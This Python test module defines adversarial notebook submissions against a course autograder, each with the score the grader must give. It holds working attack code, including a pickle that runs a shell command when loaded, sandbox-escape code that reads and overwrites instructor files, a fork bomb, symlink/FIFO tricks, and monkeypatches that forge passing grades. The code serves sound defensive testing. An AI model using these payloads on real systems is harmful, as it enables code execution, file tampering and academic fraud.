"""The adversarial corpus: submissions to the ``adv`` assignment and what the grader must make of them.

Each :class:`Case` says how to build one student's submission from the reference solution (or the
blank release, or a set of plausible wrong answers) and the EXACT automatic score, the status in
``grading_log.csv`` and, optionally, text that must (or must not) appear in the log message, the
feedback page or the executed notebook. Points: ``test_softmax`` 2, ``test_layer_norm`` 2,
``test_count_params`` 1 (5 in all); the written answer is graded by hand and is not counted.

Sources may contain ``__TOKENS__`` that :meth:`Ctx.sub` replaces with paths and ports of the test
run (the host paths an attacker would target: the course root, the workspace, the other
submissions, a port on which the test serves the answers over HTTP).

A case with ``bug`` set documents a grader bug: the test marks it ``xfail(strict=True)``, so it
starts failing (and must be updated) once the grader is fixed.
"""

from __future__ import annotations

import copy
import hashlib
import json
import sysconfig
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat
from nbformat.notebooknode import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from .assignment import HIDDEN_CANARY, NAME

REPO = Path(__file__).resolve().parents[2]
SITE = sysconfig.get_paths()["purelib"]
PROBE_NAME = "_adv_escape_probe.txt"  # files an escaping submission would create on the host
GUARDS = ("probes", "marker", "sources", "victim", "server")


# ----------------------------------------------------------------------------- context
@dataclass
class Ctx:
    """Where things are in one test run (the host side of the sandbox)."""

    root: Path  # course root (notebooks/adv/adv.ipynb: the instructor's source, with solutions)
    workspace: Path  # Workspace.workdir (nbgrader/source, gradebook.db, scratch/)
    subs: Path  # SUBMISSIONS_DIR/<student_id>/adv.ipynb
    hostdir: Path  # a host folder no sandbox may see: markers, victims, a valid record
    port: int  # 127.0.0.1:port serves the answers over HTTP (a sandbox has no network)
    solution: NotebookNode = None  # the release with every answer filled in
    blank: NotebookNode = None  # the release as students get it
    hashes: dict = field(default_factory=dict)  # host files that must not change

    @property
    def marker(self) -> Path:
        return self.hostdir / "PWNED_by_pickle"

    @property
    def victim(self) -> Path:
        return self.hostdir / "victim.txt"

    @property
    def good_record(self) -> Path:
        return self.hostdir / "good_test_layer_norm.pt"

    def probe_files(self) -> list[Path]:
        return [self.hostdir / PROBE_NAME, self.workspace / PROBE_NAME, self.root / "notebooks" / NAME / PROBE_NAME,
                REPO / "course_lib" / "grading" / PROBE_NAME, Path(SITE) / PROBE_NAME, Path.home() / PROBE_NAME]

    def protected_files(self) -> list[Path]:
        return [self.root / "notebooks" / NAME / f"{NAME}.ipynb", self.workspace / "nbgrader" / "source" / NAME / f"{NAME}.ipynb",
                self.victim, self.good_record]

    def snapshot(self) -> None:
        self.hashes = {str(p): _sha(p) for p in self.protected_files()}

    def sub(self, text: str) -> str:
        for key, value in {"__COURSE__": self.root, "__WORKSPACE__": self.workspace, "__SUBS__": self.subs,
                           "__HOSTDIR__": self.hostdir, "__PORT__": self.port, "__MARKER__": self.marker,
                           "__VICTIM__": self.victim, "__GOOD_RECORD__": self.good_record, "__REPO__": REPO,
                           "__SITE__": SITE, "__PROBE__": PROBE_NAME, "__CANARY__": HIDDEN_CANARY,
                           "__CANARY_HEX__": HIDDEN_CANARY.encode().hex()}.items():
            text = text.replace(key, str(value))
        return text

    def host_problems(self, guards=GUARDS) -> list[str]:
        """Effects on the host that no submission may have: ``probes`` (files created from a sandbox),
        ``marker`` (a record was unpickled), ``sources`` (the instructor's notebooks, the valid record),
        ``victim`` (a host file a symlink pointed at). ``server`` hits are counted by the test."""
        out = []
        if "probes" in guards:
            out += [f"{p} was created from inside a sandbox" for p in self.probe_files() if p.exists()]
        if "marker" in guards and self.marker.exists():
            out.append(f"a recorded pickle was unpickled on the host ({self.marker} exists)")
        for p, h in self.hashes.items():
            kind = "victim" if Path(p) == self.victim else "sources"
            if kind in guards and _sha(Path(p)) != h:
                out.append(f"{p} was modified")
        return out


def _sha(p: Path) -> str:
    return hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "absent"


# ----------------------------------------------------------------------------- edits
Edit = Callable[[NotebookNode, Ctx], None]


def _gid(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def index(nb, gid: str) -> int:
    for i, c in enumerate(nb.cells):
        if _gid(c) == gid:
            return i
    raise KeyError(gid)


def replace(gid: str, source: str) -> Edit:
    def edit(nb, ctx):
        nb.cells[index(nb, gid)].source = ctx.sub(source)
    return edit


def _new(source: str, cell_type: str, metadata: dict | None, ctx: Ctx):
    make = new_code_cell if cell_type == "code" else new_markdown_cell
    return make(ctx.sub(source), metadata=copy.deepcopy(metadata or {}))


def insert_after(gid: str, source: str, cell_type: str = "code", metadata: dict | None = None) -> Edit:
    def edit(nb, ctx):
        nb.cells.insert(index(nb, gid) + 1, _new(source, cell_type, metadata, ctx))
    return edit


def insert_before(gid: str, source: str, cell_type: str = "code", metadata: dict | None = None) -> Edit:
    def edit(nb, ctx):
        nb.cells.insert(index(nb, gid), _new(source, cell_type, metadata, ctx))
    return edit


def append(source: str, cell_type: str = "code", metadata: dict | None = None) -> Edit:
    def edit(nb, ctx):
        nb.cells.append(_new(source, cell_type, metadata, ctx))
    return edit


def delete(*gids: str) -> Edit:
    def edit(nb, ctx):
        for g in gids:
            del nb.cells[index(nb, g)]
    return edit


def move(gid: str, before: str | None = None) -> Edit:
    """Move a cell before another one (``before=None``: to the end)."""
    def edit(nb, ctx):
        cell = nb.cells.pop(index(nb, gid))
        nb.cells.insert(index(nb, before) if before else len(nb.cells), cell)
    return edit


def duplicate(gid: str, source: str | None = None, before: bool = False) -> Edit:
    """A copy of a cell (metadata included, as copy-paste in JupyterLab does), optionally edited."""
    def edit(nb, ctx):
        i = index(nb, gid)
        cell = copy.deepcopy(nb.cells[i])
        cell.pop("id", None)
        if source is not None:
            cell.source = ctx.sub(source)
        nb.cells.insert(i if before else i + 1, cell)
    return edit


def set_meta(gid: str, **nbgrader) -> Edit:
    def edit(nb, ctx):
        nb.cells[index(nb, gid)].metadata["nbgrader"].update(nbgrader)
    return edit


def nb_edit(fn: Callable[[NotebookNode], None]) -> Edit:
    def edit(nb, ctx):
        fn(nb)
    return edit


# ----------------------------------------------------------------------------- answers
WRONG = {
    "softmax": "def softmax(x):\n    return x / x.sum(dim=-1, keepdim=True)",
    "layer_norm": "def layer_norm(x, eps=1e-5):\n    return x - x.mean(dim=-1, keepdim=True)",
    "count_params": "def count_params(d_in, d_out):\n    return d_in * d_out",
}

CORRECT_LN = """def layer_norm(x, eps=1e-5):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + eps)"""


def _fill(gid: str, source: str) -> Edit:
    return replace(gid, source)


# ----------------------------------------------------------------------------- cases
@dataclass(frozen=True)
class Case:
    name: str  # the student id
    category: str
    score: float  # exact automatic score (of 5)
    status: str | tuple = "ok"  # grading_log.csv status (a tuple: any of these, where the outcome is incidental)
    base: str = "solution"  # solution | blank | wrong | softmax_only
    edits: tuple = ()
    raw: Callable[[Ctx], bytes] | None = None  # the file's bytes, instead of a notebook
    symlink: Callable[[Ctx], Path] | None = None  # the notebook is a symbolic link to this path
    filename: str = f"{NAME}.ipynb"
    message: str | None = None  # substring of the grading_log message
    feedback: str | None = None  # substring of the feedback page
    absent: tuple = ()  # substrings that must NOT be in the feedback page
    in_notebook: str | None = None  # substring of the executed notebook (out/autograded/<id>.ipynb)
    max_notebook_bytes: int | None = None
    needs_sandbox: bool = False  # only meaningful (and only safe to run) inside bubblewrap
    guards: tuple = ()  # host effects this case attempts (see Ctx.host_problems); none may happen
    rescue_fifo: bool = False  # the test unblocks a grader stuck writing into a FIFO (see test_adversarial)
    bug: str | None = None  # a known grader bug: xfail(strict=True, reason=bug)
    what: str = ""

    def build(self, ctx: Ctx, folder: Path) -> None:
        dest = folder / self.name / self.filename
        dest.parent.mkdir(parents=True, exist_ok=True)
        if self.raw is not None:
            dest.write_bytes(self.raw(ctx))
            return
        if self.symlink is not None:
            dest.symlink_to(self.symlink(ctx))
            return
        nb = copy.deepcopy(ctx.blank if self.base in ("blank", "wrong", "softmax_only") else ctx.solution)
        if self.base == "wrong":
            for gid, src in WRONG.items():
                nb.cells[index(nb, gid)].source = src
        if self.base == "softmax_only":
            nb.cells[index(nb, "softmax")].source = ctx.solution.cells[index(ctx.solution, "softmax")].source
        for e in self.edits:
            e(nb, ctx)
        nbformat.write(nb, dest)


# -- sources used by several cases
LOOP = "while True:\n    pass"
SEGFAULT = "import ctypes\nctypes.string_at(0)"

PATCH_BUILTINS = r"""import builtins
builtins.abs = lambda x: 0
builtins.all = lambda it: True
builtins.any = lambda it: False
builtins.AssertionError = type("AssertionError", (Exception,), {})"""

PATCH_COMPARISONS = r"""import numpy, numpy.testing, torch, torch.testing
import course_lib.grading.checks as checks
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.isclose = lambda a, b, *r, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
checks.assert_close = checks.assert_equal = checks.assert_shape = lambda *a, **k: None
checks.CheckFailed = type("CheckFailed", (Exception,), {})"""

PATCH_GRADE_NOOP = r"""import course_lib.grading.checks as checks
import course_lib.grading.record as harness

def grade(test_id, run, check, **kw):
    print(f"{test_id}: passed")

checks.grade = harness.grade = grade"""

PATCH_GRADE_FORGE = r"""import os, torch
import course_lib.grading.checks as checks
import course_lib.grading.record as harness

FAKE = {
    "test_softmax": {"x": torch.full((2, 3), 1 / 3), "big": torch.full((1, 3), 1 / 3), "cube": torch.full((2, 3, 4), 0.25)},
    "test_layer_norm": {"y": torch.zeros(4, 6), "y_eps": torch.zeros(2, 3, 5)},
    "test_count_params": {"small": 12, "big": 1280},
}

def grade(test_id, run, check, **kw):
    path = os.path.join(os.environ["COURSE_GRADING_RECORD"], test_id + ".pt")
    torch.save({"ok": True, "value": FAKE[test_id]}, path)
    print(f"{test_id}: passed")

checks.grade = harness.grade = grade
harness.to_data = lambda value, **k: FAKE.get("test_softmax")"""

PATCH_SYS_MODULES = r"""import sys, types
fake = types.ModuleType("course_lib.grading.checks")
fake.assert_close = fake.assert_equal = fake.assert_shape = lambda *a, **k: None
fake.grade = lambda test_id, run, check, **k: print(f"{test_id}: passed")
fake.CheckFailed = Exception
for name in ("course_lib.grading.checks", "course_lib.grading.record", "torch.testing", "numpy.testing"):
    sys.modules[name] = fake"""

PATCH_CUSTOM_EXC = r"""def _swallow(shell, etype, evalue, tb, tb_offset=None):
    print("all good")  # no error output: in plain nbgrader every test cell would pass

get_ipython().set_custom_exc((BaseException,), _swallow)"""

PATCH_TORCH_SAVE_LOAD = r"""import torch
_real_save = torch.save

def _save(obj, f, *args, **kwargs):
    if isinstance(obj, dict) and "ok" in obj:  # a grading record: make every failure a pass
        obj = {"ok": True, "value": obj.get("value", {"x": torch.zeros(2, 3)})}
    return _real_save(obj, f, *args, **kwargs)

torch.save = _save
torch.load = lambda *a, **k: {"ok": True, "value": {}}"""

FORGE_PICKLE = r"""import os, pickle, torch

class Evil:
    def __reduce__(self):  # runs `touch` wherever this is unpickled
        return (os.system, ("touch __MARKER__",))

d = os.environ["COURSE_GRADING_RECORD"]
torch.save({"ok": True, "value": Evil()}, os.path.join(d, "test_softmax.pt"))
with open(os.path.join(d, "test_layer_norm.pt"), "wb") as f:
    pickle.dump({"ok": True, "value": Evil()}, f)  # a plain pickle, not torch's zip format
torch.save(Evil(), os.path.join(d, "test_count_params.pt"))
print(sorted(os.listdir(d)))"""

FORGE_GARBAGE_SYMLINK = r"""import os
d = os.environ["COURSE_GRADING_RECORD"]
with open(os.path.join(d, "test_softmax.pt"), "wb") as f:
    f.write(os.urandom(4096))  # garbage in place of a (correct) record
p = os.path.join(d, "test_layer_norm.pt")
os.remove(p)
os.symlink("__GOOD_RECORD__", p)  # a valid, correct record that only exists on the host
print(sorted(os.listdir(d)))"""

FORGE_WRONG_VALUES = r"""import os, torch
d = os.environ["COURSE_GRADING_RECORD"]
torch.save({"ok": True, "value": {"x": torch.full((2, 3), 1 / 3), "big": torch.full((1, 3), 1 / 3),
                                  "cube": torch.full((2, 3, 4), 0.25)}}, os.path.join(d, "test_softmax.pt"))
torch.save({"ok": True, "value": {"y": torch.zeros(4, 6), "y_eps": torch.zeros(2, 3, 5)}}, os.path.join(d, "test_layer_norm.pt"))
torch.save({"ok": 1, "value": {"small": 16, "big": 1290}}, os.path.join(d, "test_count_params.pt"))  # "ok" not a bool
print(sorted(os.listdir(d)))"""

ENV_RECORD = r"""import os
os.makedirs("/tmp/elsewhere", exist_ok=True)
os.environ["COURSE_GRADING_RECORD"] = "/tmp/elsewhere"  # records go where the grader never looks"""

# -- forbidden functions (test_layer_norm forbids torch.nn.functional.layer_norm and torch.nn.LayerNorm)
FORBID = {
    "direct": """import torch.nn.functional as F

def layer_norm(x, eps=1e-5):
    return F.layer_norm(x, x.shape[-1:], eps=eps)""",
    "class": """def layer_norm(x, eps=1e-5):
    return torch.nn.LayerNorm(x.shape[-1], eps=eps, elementwise_affine=False)(x)""",
    "captured_ref": """import torch.nn.functional
_ln = getattr(torch.nn.functional, "layer" + "_norm")  # taken before the test, name hidden from a text scan

def layer_norm(x, eps=1e-5):
    return _ln(x, x.shape[-1:], eps=eps)""",
    "getattr": """import torch.nn.functional as F

def layer_norm(x, eps=1e-5):
    return getattr(F, "layer_norm")(x, x.shape[-1:], eps=eps)""",
    "torch_alias": """def layer_norm(x, eps=1e-5):
    return torch.layer_norm(x, x.shape[-1:], None, None, eps)  # the same kernel, under another name""",
    "aten_op": """def layer_norm(x, eps=1e-5):
    return torch.ops.aten.layer_norm(x, list(x.shape[-1:]), None, None, eps)  # the operator, called directly""",
    "disable_mode": """import torch.nn.functional
_ln = getattr(torch.nn.functional, "layer" + "_norm")

def layer_norm(x, eps=1e-5):
    with torch._C.DisableTorchFunction():  # turns off the TorchFunctionMode that enforces `forbid`
        return _ln(x, x.shape[-1:], eps=eps)""",
    "obfuscated_disable": """import torch.nn.functional
_ln = getattr(torch.nn.functional, "layer" + "_norm")
_off = getattr(torch._C, "Disable" + "TorchFunction")  # the same switch, its name built at run time

def layer_norm(x, eps=1e-5):
    with _off():
        return _ln(x, x.shape[-1:], eps=eps)""",
    "renamed_torch": """import torch as T
_ln = getattr(T.nn.functional, "layer" + "_norm")
_no_function_modes = getattr(T._C, "Disable" + "TorchFunction")
_no_dispatch_modes = getattr(T.utils, "_python" + "_dispatch")._disable_current_modes

def layer_norm(x, eps=1e-5):
    with _no_function_modes(), _no_dispatch_modes():
        return _ln(x, x.shape[-1:], eps=eps)""",
    "neutered_harness": """import contextlib
import torch.nn.functional
import course_lib.grading.record as _h
_h.forbidden = lambda *a, **k: contextlib.nullcontext()  # grade() looks `forbidden` up at call time
_ln = getattr(torch.nn.functional, "layer" + "_norm")

def layer_norm(x, eps=1e-5):
    return _ln(x, x.shape[-1:], eps=eps)""",
}

HONEST_COMPARE = """# Checking my layer_norm against PyTorch's (not used by my solution)
_x = torch.randn(3, 5)
print("same as the library:", torch.allclose(layer_norm(_x), torch.nn.functional.layer_norm(_x, (5,)), atol=1e-5))"""

ALT_LIBRARY = {
    "softmax": """import torch.nn.functional as F

def softmax(x):
    return F.softmax(x.double(), dim=-1)  # float64 is fine""",
    "layer_norm": """import numpy as np

def layer_norm(x, eps=1e-5):
    a = np.asarray(x, dtype=np.float64)
    mu = a.mean(axis=-1, keepdims=True)
    sd = np.sqrt(a.var(axis=-1, keepdims=True) + eps)
    return (a - mu) / sd  # a NumPy array is a fine answer""",
    "count_params": """import numpy as np

def count_params(d_in, d_out):
    layer = torch.nn.Linear(d_in, d_out)
    return np.int64(sum(p.numel() for p in layer.parameters()))""",
}

NOISE_BEFORE = r"""import logging, os, sys, warnings
warnings.simplefilter("always")
print("some debugging output")
print("and some on stderr", file=sys.stderr)
os.write(2, b"C-level stderr\n")
logging.getLogger("student").warning("a logged warning")
warnings.warn("a warning at import time", DeprecationWarning)
%time _ = sum(range(1000))
!echo shell escape"""

NOISY_SOFTMAX = r"""import sys, warnings

def _shift(x):
    return x - x.max(dim=-1, keepdim=True).values

def softmax(x):
    warnings.warn("softmax: computing")  # a correct answer that warns...
    print("softmax input", tuple(x.shape), file=sys.stderr)  # ...and writes to stderr
    e = torch.exp(_shift(x))
    return (e / e.sum(dim=-1, keepdim=True)).requires_grad_()"""

PLOT = """import matplotlib.pyplot as plt
plt.plot([1, 2, 3]); plt.title("a plot"); plt.show()
import pandas as pd
pd.DataFrame({"a": [1, 2]})"""

ESCAPE_READ_AND_NET = r"""import json, os, time, urllib.request

_TARGETS = ["__COURSE__/notebooks/adv/adv.ipynb", "__WORKSPACE__/nbgrader/source/adv/adv.ipynb",
            "__WORKSPACE__/nbgrader/gradebook.db", "__SUBS__/solution/adv.ipynb", "__SUBS__",
            os.path.join(os.getcwd(), "..", "..", "..", "source", "adv", "adv.ipynb"),
            os.path.join(os.environ.get("COURSE_ROOT", "/nonexistent"), "notebooks", "adv", "adv.ipynb")]
_SKIP = {"/proc", "/sys", "/dev", "/usr", "__SITE__"}

def _search():
    found = [p for p in _TARGETS if os.path.exists(p)]
    t0 = time.monotonic()
    for top in ("/tmp", "/home", "/root", "/work", "/opt", "/var", "/run", "/mnt", "/srv", "/"):
        for d, dirs, files in os.walk(top):
            dirs[:] = [x for x in dirs if os.path.join(d, x) not in _SKIP]
            if time.monotonic() - t0 > 4 or d == os.getcwd():
                dirs[:] = []
                continue
            found += [os.path.join(d, f) for f in files if f.endswith((".ipynb", ".db"))]
    return found

_FOUND = []

def layer_norm(x, eps=1e-5):
    if not _FOUND:
        _FOUND.append(_search())  # once: the test calls layer_norm twice
    for p in _FOUND[0]:
        if p.endswith(".ipynb"):
            try:
                cells = json.load(open(p))["cells"]
            except Exception:
                continue
            for c in cells:
                src = "".join(c["source"])
                if src.lstrip().startswith("def layer_norm") and "NotImplementedError" not in src:
                    ns = {"torch": torch}
                    exec(src.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), ns)
                    return ns["layer_norm"](x, eps)
        elif "gradebook" in p:  # found the grader's database: pretend that told us the answer
            mean = x.mean(dim=-1, keepdim=True)
            return (x - mean) / torch.sqrt(((x - mean) ** 2).mean(dim=-1, keepdim=True) + eps)
    raise NotImplementedError("escape failed: none of the instructor's files is visible")

def count_params(d_in, d_out):
    with urllib.request.urlopen(f"http://127.0.0.1:__PORT__/count?d_in={d_in}&d_out={d_out}", timeout=3) as r:
        return int(r.read())  # the answer, from a server outside the sandbox"""

ESCAPE_WRITE = r"""import json, os, torch

# 1. Doctor every copy of the instructor's notebook the grader might judge with: checks that pass anything.
nb = json.load(open("adv.ipynb"))  # the sanitized submission: the instructor's test cells, hidden parts included
for c in nb["cells"]:
    src = "".join(c["source"])
    if "def check(out):" in src:
        c["source"] = src.replace("def check(out):", "def check(out):\n    return")
doctored = json.dumps(nb)
here = os.getcwd()  # .../scratch/<student>/autograded/<student>/adv
for p in [os.path.join(here, "..", "..", "..", "source", "adv", "adv.ipynb"),
          "__WORKSPACE__/nbgrader/source/adv/adv.ipynb", "__COURSE__/notebooks/adv/adv.ipynb"]:
    try:
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "w") as f:
            f.write(doctored)
        print("wrote", p)
    except OSError as exc:
        print("could not write", p, exc)
# 2. Leave files where they would persist: the grader's own package, site-packages, home folders.
for p in ["__HOSTDIR__/__PROBE__", "__WORKSPACE__/__PROBE__", "__COURSE__/notebooks/adv/__PROBE__",
          "__REPO__/course_lib/grading/__PROBE__", "__SITE__/__PROBE__", os.path.expanduser("~/__PROBE__"), "/root/__PROBE__"]:
    try:
        with open(p, "w") as f:
            f.write("escaped")
        print("wrote", p)
    except OSError as exc:
        print("could not write", p, exc)"""

ESCAPE_WRITE_RECORDS = r"""import os, torch
d = os.environ["COURSE_GRADING_RECORD"]
for t in ("test_softmax", "test_layer_norm", "test_count_params"):
    torch.save({"ok": True, "value": {}}, os.path.join(d, t + ".pt"))  # passes only the doctored checks"""

ESCAPE_SYMLINK_CWD = r"""import os
# After the kernel ends, the grader (outside the sandbox) writes the executed notebook to this path.
os.remove("adv.ipynb")
os.symlink("__VICTIM__", "adv.ipynb")
print(os.readlink("adv.ipynb"))"""

BACKGROUND_SWAPPER = r"""import os, time
d = os.environ["COURSE_GRADING_RECORD"]
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:  # a daemon: it outlives the cell and the kernel unless the grader kills it
        p = os.path.join(d, "test_layer_norm.pt")
        t0 = time.time()
        while time.time() - t0 < 120:
            try:
                os.remove(p)
                os.symlink("__GOOD_RECORD__", p)  # a valid record on the host: credit if the checker follows it
                time.sleep(0.001)
                os.remove(p)
                open(p, "wb").close()  # a plain file when the checker looks
            except OSError:
                pass
    os._exit(0)
print("daemon started")"""

FIFO_CWD = r"""import os
os.remove("adv.ipynb")
os.mkfifo("adv.ipynb")  # the grader writes the executed notebook here after the kernel ends"""

LEAK = r"""def count_params(d_in, d_out):
    import sys
    text = open("adv.ipynb").read()  # the notebook being graded: the instructor's tests, hidden parts included
    try:
        import inspect
        text = inspect.getsource(sys._getframe(1).f_code) + text  # or the calling test's own source
    except Exception:
        pass
    canary = bytes.fromhex("__CANARY_HEX__").decode()  # not written out, so only a real leak can match
    i = text.find(canary)
    raise ValueError("LEAKED:" + text[max(0, i - 40): i + 200])"""

HUGE_OUTPUT = r"""import sys
chunk = "x" * (1024 * 1024 - 1)
for _ in range(40):  # 40 MB on stdout
    print(chunk)
for _ in range(5):
    print(chunk, file=sys.stderr)"""

HUGE_OUTPUT_SOFTMAX = r"""def softmax(x):
    print("y" * (5 * 1024 * 1024))  # 5 MB each time a test calls it
    z = x - x.max(dim=-1, keepdim=True).values
    e = torch.exp(z)
    return e / e.sum(dim=-1, keepdim=True)"""

MEMORY_TMPFS = r"""import os
chunk = b"x" * (64 * 2**20)
for i in range(48):  # /tmp is a tmpfs: its pages are memory charged to the sandbox (3 GiB here)
    with open(f"/tmp/fill{i}", "wb") as f:
        for _ in range(1):
            f.write(chunk)
print("still alive")"""

FORK_BOMB = r"""import os
while True:
    try:
        os.fork()
    except OSError:
        pass"""

SLEEP = "import time\ntime.sleep(8)"



def _fake_outputs(nb):
    for c in nb.cells:
        if (_gid(c) or "").startswith("test_"):
            c.execution_count = 7
            c.outputs = [new_output("stream", name="stdout", text=f"{_gid(c)}: passed\n"),
                         new_output("execute_result", data={"text/plain": "2"}, execution_count=7)]


def _kernelspec(nb):
    nb.metadata["kernelspec"] = {"name": "evil", "display_name": "Evil", "language": "bash"}
    nb.metadata["language_info"] = {"name": "bash"}


def _old_format(nb):
    nb.nbformat_minor = 4
    for c in nb.cells:
        c.pop("id", None)
    i = index(nb, "count_params")  # Windows line endings, tabs and non-ASCII names
    nb.cells[i].source = "# Paramètres : poids + biais\r\ndef count_params(d_in, d_out):\r\n\tgröße = d_in * d_out\r\n\treturn größe + d_out\r\n"


def _huge_cells(nb):
    nb.cells.insert(1, new_markdown_cell("lorem ipsum dolor sit amet " * 300_000))  # 8 MB of markdown
    nb.cells.insert(2, new_code_cell("BIG = '" + "z" * 2_000_000 + "'\nlen(BIG)"))  # a 2 MB code cell


def _corrupt_truncated(ctx: Ctx) -> bytes:
    data = nbformat.writes(ctx.solution).encode()
    return data[: len(data) // 2]


CASES: list[Case] = [
    # ------------------------------------------------------------------ reference points
    Case("solution", "correct", 5, what="the instructor's solution"),
    Case("blank", "correct", 0, base="blank", feedback="Not answered yet", what="the release, untouched"),
    # ------------------------------------------------------------------ plausible wrong answers
    Case("wrong_nomax_nobias", "wrong", 2, edits=(
        _fill("softmax", "def softmax(x):\n    e = torch.exp(x)\n    return e / e.sum(dim=-1, keepdim=True)"),
        _fill("count_params", WRONG["count_params"])), feedback="NaN",
        what="softmax without subtracting the max (overflows on the hidden large inputs); count_params forgets the bias"),
    Case("wrong_dim_eps", "wrong", 1, edits=(
        _fill("softmax", "def softmax(x):\n    e = torch.exp(x - x.max())\n    return e / e.sum(dim=0, keepdim=True)"),
        _fill("layer_norm", "def layer_norm(x, eps=1e-5):\n    mean = x.mean(dim=-1, keepdim=True)\n"
                            "    return (x - mean) / torch.sqrt(((x - mean) ** 2).mean(dim=-1, keepdim=True) + 1e-5)")),
        what="softmax over the wrong dimension; layer_norm ignores its eps argument (the hidden part uses eps=0.5)"),
    Case("wrong_unbiased", "wrong", 3, edits=(
        _fill("layer_norm", "def layer_norm(x, eps=1e-5):\n    return (x - x.mean(-1, keepdim=True)) / torch.sqrt(x.var(-1, keepdim=True) + eps)"),),
        feedback="layer_norm(x)", what="layer_norm with the unbiased variance"),
    Case("wrong_no_return", "wrong", 3, edits=(
        _fill("softmax", "def softmax(x):\n    e = torch.exp(x - x.max(dim=-1, keepdim=True).values)\n    e / e.sum(dim=-1, keepdim=True)"),),
        feedback="forget to `return`", what="softmax forgets to return"),
    # ------------------------------------------------------------------ right answers, written differently
    Case("alt_library_numpy", "alt", 5, edits=tuple(_fill(k, v) for k, v in ALT_LIBRARY.items()),
         what="F.softmax in float64, layer_norm in NumPy returning an ndarray, count_params from nn.Linear as np.int64"),
    Case("alt_noise", "alt", 5, edits=(insert_after("helpers", NOISE_BEFORE), _fill("softmax", NOISY_SOFTMAX),
                                      insert_after("test_softmax", PLOT)),
         what="warnings, stderr (Python and C level), logging, magics, shell escapes, plots; returns requires_grad"),
    Case("alt_new_cells_old_format", "alt", 5, edits=(
        insert_after("layer_norm", CORRECT_LN.replace("def layer_norm", "def _my_ln") + "\n\nlayer_norm = _my_ln"),
        _fill("layer_norm", "# moved to the next cell"), insert_after("softmax", "softmax_copy = softmax"),
        nb_edit(_old_format)),
        what="solution defined in a cell the student added; nbformat 4.4 without cell ids; CRLF, tabs, non-ASCII names"),
    Case("alt_compares_with_library", "alt", 5, edits=(insert_after("layer_norm", HONEST_COMPARE),),
         what="a correct answer plus a scratch cell that compares it with the library version"),
    # ------------------------------------------------------------------ monkeypatching (wrong answers)
    Case("patch_comparisons", "monkeypatch", 0, base="wrong", edits=(insert_after("helpers", PATCH_COMPARISONS),),
         what="torch.allclose/equal/isclose, torch.testing, numpy.testing and checks.assert_* replaced"),
    Case("patch_builtins", "monkeypatch", 0, status=("ok", "limit"), base="wrong",
         edits=(insert_after("helpers", PATCH_BUILTINS),),
         what="builtins abs/all/any/AssertionError replaced; this breaks the kernel's own machinery too (with "
              "`all` patched, the forbid guard's lazy `import torch._dynamo` fails and test_layer_norm may run into "
              "the time limit), so 'limit' is as acceptable as 'ok': what matters is 0 points"),
    Case("patch_grade_noop", "monkeypatch", 0, base="wrong", edits=(insert_after("helpers", PATCH_GRADE_NOOP),),
         feedback="did not run", what="grade() replaced by a function that prints 'passed'"),
    Case("patch_grade_forge", "monkeypatch", 0, base="wrong", edits=(insert_after("helpers", PATCH_GRADE_FORGE),),
         what="grade() replaced by one that writes well-formed records of wrong values; to_data replaced"),
    Case("patch_sys_modules", "monkeypatch", 0, base="wrong", edits=(insert_after("helpers", PATCH_SYS_MODULES),),
         what="sys.modules entries for the checks/harness/testing modules replaced"),
    Case("patch_custom_exc", "monkeypatch", 0, base="blank", edits=(insert_after("helpers", PATCH_CUSTOM_EXC),),
         feedback="Not answered yet", what="set_custom_exc swallows every error (no error outputs at all)"),
    Case("patch_torch_save_load", "monkeypatch", 0, base="blank", edits=(insert_after("helpers", PATCH_TORCH_SAVE_LOAD),),
         what="torch.save turns failed records into passes; torch.load returns a pass"),
    # ------------------------------------------------------------------ records forged in $COURSE_GRADING_RECORD
    Case("forge_malicious_pickle", "forge", 0, base="blank", guards=("marker",), edits=(append(FORGE_PICKLE),),
         feedback="could not be read",
         what="records that would run `touch MARKER` if unpickled (torch zip, plain pickle, bare object)"),
    Case("forge_garbage_symlink", "forge", 1, guards=("sources",), edits=(append(FORGE_GARBAGE_SYMLINK),),
         what="correct answers, then records overwritten: garbage, and a symlink to a valid record on the host"),
    Case("forge_wrong_values", "forge", 0, base="blank", edits=(append(FORGE_WRONG_VALUES),),
         what="well-formed records claiming success with wrong values; 'ok' as an int"),
    Case("env_record_moved", "forge", 0, edits=(insert_after("helpers", ENV_RECORD),), feedback="did not run",
         what="correct answers, but COURSE_GRADING_RECORD points elsewhere (the student's own loss)"),
    # ------------------------------------------------------------------ forbidden functions
    *(Case(f"forbid_{k}", "forbid", 3, edits=(_fill("layer_norm", v),),
           feedback=None if k in ("renamed_torch",) else "ForbiddenFunction",
           what=f"layer_norm via the forbidden library function ({k})") for k, v in FORBID.items()),
    # ------------------------------------------------------------------ test cells and metadata tampered with
    Case("tests_and_helper_deleted", "tamper", 5, edits=(delete("test_softmax", "test_layer_norm", "test_count_params", "helpers"),),
         what="correct answers; every test cell and the locked helper cell deleted (all are put back)"),
    Case("tests_deleted_or_edited", "tamper", 0, base="wrong", edits=(
        delete("test_softmax"),
        replace("test_layer_norm", 'from course_lib.grading.checks import grade\ngrade("test_layer_norm", lambda: 0, lambda out: None)'),
        replace("test_count_params", "pass")),
        what="wrong answers; one test deleted, two edited to always pass"),
    Case("tests_moved_and_metadata", "tamper", 5, edits=(
        move("test_softmax"), set_meta("test_count_params", points=100), set_meta("test_softmax", points=0.5),
        replace("helpers", "import torch\ntorch.exp = lambda x: x  # sabotage the tests' own torch"),
        nb_edit(_kernelspec)),
        what="correct answers; a test moved to the end, points edited, the locked helper edited, kernelspec changed"),
    Case("test_moved_first", "tamper", 5, edits=(move("test_softmax", before="helpers"),),
         in_notebook="test_softmax: passed",
         what="test_softmax moved above the definition it tests (the grader moves test cells back to their place)"),
    Case("fake_outputs", "tamper", 0, base="wrong", edits=(nb_edit(_fake_outputs),),
